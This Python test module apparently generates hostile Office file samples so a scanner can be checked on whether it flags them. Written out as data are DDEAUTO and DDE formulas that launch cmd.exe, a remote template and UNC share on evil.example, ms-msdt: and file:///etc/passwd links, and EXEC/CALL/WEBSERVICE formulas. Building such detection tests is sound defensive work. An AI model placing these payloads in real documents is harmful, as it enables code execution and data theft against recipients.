"""Office files that hold macros, other files, links, fields and formulas."""

from __future__ import annotations

from collections.abc import Iterator

from tests.questionnaires import making
from tests.questionnaires.hostile.file import KINDS, Hostile

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def office_parts() -> Iterator[Hostile]:
    """Parts that hold macros, other files or what fetches."""
    macro = "macros"
    inside = "other files or programs"
    outside = "links that fetch"
    for kind, main in KINDS:
        folder = main.split("/")[0]
        for part, says in (
            (f"{folder}/vbaProject.bin", macro),
            (f"{folder}/vbaData.xml", macro),
            (f"{folder}/activeX/activeX1.xml", macro),
            ("customUI/customUI.xml", macro),
            (f"{folder}/embeddings/oleObject1.bin", inside),
            (f"{folder}/embeddings/tool.exe", inside),
            (f"{folder}/media/film.mp4", inside),
            (f"{folder}/media/run.js", inside),
            (f"{folder}/webextensions/webextension1.xml", outside),
        ):
            yield Hostile(f"{kind}: {part.rpartition('/')[2]}", f"a.{kind}", making.office(main, part), says)
        for word in ("macroEnabled", "vbaProject"):
            listed = f'<Override PartName="/x" ContentType="application/vnd.ms-office.{word}"/>'
            yield Hostile(f"{kind}: type {word}", f"a.{kind}", making.office(main, types=listed), macro)
    for part in ("xl/externalLinks/externalLink1.xml", "xl/connections.xml", "xl/queryTables/queryTable1.xml"):
        yield Hostile(f"xlsx: {part}", "a.xlsx", making.office("xl/workbook.xml", part), outside)
    yield Hostile("xlsx: macro sheet", "a.xlsx", making.office("xl/workbook.xml", "xl/macrosheets/sheet1.xml"), macro)


def rels(kind: str, target: str) -> str:
    """One relationship that leads outside."""
    one = f'<Relationship Id="r1" Type="{REL}{kind}" Target="{target}" TargetMode="External"/>'
    return f"<Relationships>{one}</Relationships>"


def office_links() -> Iterator[Hostile]:
    """Links that fetch."""
    for kind, main in KINDS:
        place = f"{main.split('/')[0]}/_rels/{main.split('/')[1]}.rels"
        for what, target, says in (
            ("image", "https://track.example/p.png", "links that fetch"),
            ("attachedTemplate", "https://evil.example/t.dotm", "other files or programs"),
            ("oleObject", "file:///c:/x", "other files or programs"),
            ("frame", "https://evil.example/", "links that fetch"),
            ("subDocument", "\\\\evil.example\\share\\x", "links that fetch"),
            ("hyperlink", "javascript:alert(1)", "links that fetch"),
            ("hyperlink", "file:///etc/passwd", "links that fetch"),
            ("hyperlink", "ms-msdt:/id", "links that fetch"),
        ):
            made = making.office(main, parts={place: rels(what, target)})
            yield Hostile(f"{kind} link {what} {target[:10]}", f"a.{kind}", made, says)


def office_fields() -> Iterator[Hostile]:
    """Fields, formulas and actions that start something."""
    says = "formulas or fields"
    for field in ("DDEAUTO c:\\\\windows\\\\cmd.exe", "DDE excel x", "INCLUDETEXT http://x", "INCLUDEPICTURE http://x"):
        whole = f"<w><instrText>{field}</instrText></w>"
        cut = f"<w><instrText>{field[:3]}</instrText><r/><instrText>{field[3:]}</instrText></w>"
        simple = f'<w><fldSimple instr="{field}"/></w>'
        for how, body in (("whole", whole), ("cut", cut), ("simple", simple)):
            made = making.office("word/document.xml", parts={"word/document.xml": body})
            yield Hostile(f"docx field {field[:8]} {how}", "a.docx", made, says)
    for formula in ("cmd|'/c calc'!A0", 'WEBSERVICE("http://x")', "CALL(1,2)", "EXEC(1)", "RTD(1)", "REGISTER.ID(1)"):
        sheet = f"<worksheet><c><f>{formula.replace('<', '')}</f></c></worksheet>"
        made = making.office("xl/workbook.xml", parts={"xl/worksheets/sheet1.xml": sheet})
        yield Hostile(f"xlsx formula {formula[:8]}", "a.xlsx", made, says)
    for action, words in (("program", says), ("macro?name=x", "macros"), ("ole?verb=0", "macros")):
        slide = f'<sld><hlinkClick action="ppaction://{action}"/></sld>'
        made = making.office("ppt/presentation.xml", parts={"ppt/slides/slide1.xml": slide})
        yield Hostile(f"pptx action {action[:5]}", "a.pptx", made, words)
